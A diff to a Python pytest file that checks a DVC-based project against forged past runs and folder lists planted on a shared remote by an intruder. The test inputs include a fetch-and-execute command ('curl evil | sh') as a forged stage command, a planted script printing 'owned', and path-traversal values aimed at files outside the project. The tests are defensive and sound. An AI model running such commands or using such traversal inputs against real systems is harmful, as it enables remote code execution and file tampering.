@@ -1,18 +1,21 @@
+"""What someone who may write to the team's remote cannot do to who joins."""
+
 import hashlib
 import json
+import re
 from dataclasses import replace
 from pathlib import Path
 
 import pytest
 import yaml
-from dvc.utils import dict_sha256
-from dvc.utils.serialize import dump_yaml, load_yaml
 
-from motiontransfer.pipeline.remote import fetch_lists, objects_of, opened
+from motiontransfer.pipeline.dvc_api import opened
+from motiontransfer.pipeline.remote import accept_runs, fetch_lists, objects_of
 from tests.project.machines import Machine
 from tests.project.remotes import BUCKET, Remote, s3_client
 
 FRAMES = "results/dance/frames"
+NAME = f"aa/{'a' * 64}/{'b' * 64}"
 
 
 class Intruder:
@@ -34,14 +37,13 @@ class Intruder:
         path.write_bytes(data)
 
     def forge(self, change) -> None:
-        """Replace the past run of the stage `render` with `crf: 1` by a changed one."""
+        """Change the past run of the stage `render` with `crf: 1`."""
         for path in self._folder.glob("runs/*/*/*"):
-            run = load_yaml(path)
+            run = yaml.safe_load(path.read_text())
             if run.get("params", {}).get("params.yaml", {}).get("render") == {"crf": 1}:
-                path.unlink()
                 change(run)
-                name = dict_sha256(run, exclude=["size", "nfiles"])  # so that it fits what it holds
-                dump_yaml(path.with_name(name), run)
+                path.unlink()
+                path.write_text(yaml.safe_dump(run))
 
 
 @pytest.fixture
@@ -52,7 +54,7 @@ def old_run(mate) -> Machine:
 
 
 @pytest.mark.slow
-def test_a_forged_run_puts_no_file_into_the_project(folder, old_run):
+def test_a_forged_run_puts_no_file_into_the_project_and_runs_no_code(folder, old_run):
     intruder = Intruder(folder)
     payload = intruder.put(b"print('owned')\n")
     out = {"path": "yaml.py", "hash": "md5", "md5": payload, "size": 15}
@@ -60,31 +62,82 @@ def test_a_forged_run_puts_no_file_into_the_project(folder, old_run):
     output = old_run.command("join")
     assert not (old_run.root / "yaml.py").exists()
     assert "Running stage 'render'" in output
-    assert f"1 past runs on {folder.url} were not used: they are not what `share` sends" in output
+    assert f"1 past runs on {folder.url} were not used" in output
     assert not list((old_run.root / ".dvc/cache").rglob(payload[2:]))
 
 
-@pytest.mark.slow
+@pytest.fixture
+def repo(finished, folder, tmp_path):
+    """A clone whose remote is empty, by DVC's view."""
+    mate = finished.clone(tmp_path / "mate")
+    with opened(mate.root) as repo:
+        with repo.config.edit("local") as config:
+            config["remote"]["team"] = {"url": folder.url}
+            config["core"]["remote"] = "team"
+        yield repo
+
+
+def declared_run(repo):
+    (stage,) = (each for each in repo.index.stages if getattr(each, "name", "") == "train")
+    out = {"path": "artifacts/models/ada", "hash": "md5", "md5": "0" * 32, "size": 1}
+    return {"cmd": stage.cmd, "outs": [out]}
+
+
+def kept(repo):
+    return [path for path in Path(repo.stage_cache.cache_dir).rglob("*") if path.is_file()]
+
+
+def test_a_run_like_a_declared_stage_is_kept(repo):
+    assert accept_runs(repo, {NAME: yaml.safe_dump(declared_run(repo)).encode()}) == 0
+    assert [path.name for path in kept(repo)] == [NAME[-64:]]
+
+
+def another_out(**changes):
+    def change(run):
+        run["outs"].append({"path": "yaml.py", "hash": "md5", "md5": "0" * 32} | changes)
+
+    return change
+
+
+def changed_out(**changes):
+    return lambda run: run["outs"][0].update(changes)
+
+
 @pytest.mark.parametrize(
-    "out",
+    "change",
     [
-        {"md5": "aa/../../../../outside.txt"},
-        {"files": [{"relpath": "../../../../outside.txt", "md5": "0" * 32, "size": 1}]},
+        lambda run: run.update(cmd="curl evil | sh"),
+        lambda run: run.pop("cmd"),
+        lambda run: run.pop("outs"),
+        lambda run: run["outs"].clear(),
+        another_out(),
+        changed_out(path="stages/train_gan.py"),
+        changed_out(md5="aa/../../../../outside.txt"),
+        changed_out(md5=None),
+        changed_out(md5=f"{'0' * 32}.dir"),  # a list that is not there
+        changed_out(files=[{"relpath": "../outside.txt", "md5": "0" * 32, "size": 1}]),
+        changed_out(remote="evil"),
     ],
 )
-def test_a_forged_hash_of_an_out_is_no_path(folder, old_run, tmp_path, out):
-    Intruder(folder).forge(lambda run: run["outs"][-1].update(out))
-    assert "1 past runs" in old_run.command("join")
-    assert not list(tmp_path.rglob("outside.txt"))
+def test_a_run_unlike_every_declared_stage_is_refused(repo, change):
+    run = declared_run(repo)
+    change(run)
+    assert accept_runs(repo, {NAME: yaml.safe_dump(run).encode()}) == 1
+    assert kept(repo) == []
 
 
-@pytest.mark.slow
-def test_only_what_is_named_as_a_past_run_is_fetched(folder, mate):
-    names = ("config.local", "aa/bb/cc", f"aa/{'b' * 64}/{'c' * 64}", f"aa/{'a' * 64}/x")
-    for name in names:
-        Intruder(folder).write(f"runs/{name}", b"[core]\n    remote = evil\n")
-    assert "4 past runs" in mate.command("join")
-    assert not [name for name in names if (mate.root / ".dvc/cache/runs" / name).exists()]
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        *((name, None) for name in ("config.local", "aa/bb/cc", f"../{NAME}", f"{NAME}/x")),
+        (f"ab{NAME[2:]}", None),
+        *((NAME, content) for content in (b"\xff", b"[", b"a run", b"")),
+    ],
+)
+def test_only_what_is_named_and_written_as_a_run_is_kept(repo, name, content):
+    whole = yaml.safe_dump(declared_run(repo)).encode()
+    assert accept_runs(repo, {name: whole if content is None else content}) == 1
+    assert kept(repo) == []
 
 
 @pytest.mark.slow
@@ -115,7 +168,7 @@ def test_the_list_of_a_folder_leads_not_outside(folder, mate, tmp_path, forged_l
     (oid,) = [out["md5"] for out in lock["stages"]["render"]["outs"] if out["path"] == FRAMES]
     Intruder(folder).write(f"files/md5/{oid[:2]}/{oid[2:]}", forged_list)
     message = mate.error("join")
-    assert message.startswith(f"{folder.url}: {FRAMES} is forged there (files/md5/")
+    assert re.match(rf"{folder.url}: {FRAMES} is no list .* \(files/md5/", message)
     assert not list(tmp_path.rglob("outside.txt"))
 
 
@@ -129,18 +182,6 @@ def test_a_past_run_with_such_a_list_is_run_again(folder, old_run, tmp_path, for
     assert not (old_run.root / ".dvc/cache/files/md5" / oid[:2] / oid[2:]).exists()
 
 
-@pytest.mark.slow
-def test_a_past_run_whose_list_is_gone_is_not_kept(folder, old_run):
-    """Nor is it restored with a list that comes later: MD5 is no protection."""
-    runs, lists = old_run.root / ".dvc/cache/runs", old_run.root / ".dvc/cache/files/md5"
-    old_run.command("join")
-    before = len(list(runs.glob("*/*/*")))
-    for path in [*lists.rglob("*.dir"), *Path(folder.url).rglob("*.dir")]:
-        path.unlink()
-    old_run.command("join", "--bring", "needed")
-    assert len(list(runs.glob("*/*/*"))) == before - 2  # both of `render`
-
-
 INSIDE = {"relpath": "a/b.txt", "md5": "0" * 32}
 OUTSIDE = [
     *({"relpath": path} for path in ("a/../../outside", "/outside", "..\\outside", "C:outside")),
@@ -152,18 +193,17 @@ FORGED = [json.dumps([INSIDE, INSIDE | member]).encode() for member in OUTSIDE]
 FORGED += [b"{", b"{}", b'"\xff"', b"[" * 10**5]
 
 
-def test_lists_with_a_member_outside_or_of_another_form_are_left_there(finished, folder, tmp_path):
+def test_lists_with_a_member_outside_or_of_another_form_are_left_there(repo, folder):
     """Though their hashes are right: they were written like this."""
     intruder, missing = Intruder(folder), f"{'0' * 32}.dir"
-    good, *bad = (
-        intruder.put(content, suffix=".dir") for content in (json.dumps([INSIDE]).encode(), *FORGED)
+    good, damaged, *bad = (
+        intruder.put(content, suffix=".dir")
+        for content in (json.dumps([INSIDE]).encode(), b"[]", *FORGED)
     )
-    mate = finished.clone(tmp_path / "mate")
-    with opened(mate.root) as repo:
-        with repo.config.edit("local") as config:
-            config["remote"]["team"] = {"url": folder.url}
-            config["core"]["remote"] = "team"
-        faults = fetch_lists(repo, [good, *bad, missing])
-        assert faults == {**dict.fromkeys(bad, "forged"), missing: "missing"}
-        assert objects_of(repo, good, "x") == {good: "x", INSIDE["md5"]: "x/a/b.txt"}
-        assert all(objects_of(repo, oid, "x") == {oid: "x"} for oid in bad)
+    intruder.write(f"files/md5/{damaged[:2]}/{damaged[2:]}", json.dumps([INSIDE]).encode())
+    faults = fetch_lists(repo, [good, damaged, *bad, missing])
+    assert faults.pop(missing) == "missing"
+    assert faults.pop(damaged) == "damaged"
+    assert set(faults) == set(bad)
+    assert objects_of(repo, good, "x") == {good: "x", INSIDE["md5"]: "x/a/b.txt"}
+    assert all(objects_of(repo, oid, "x") == {oid: "x"} for oid in bad)
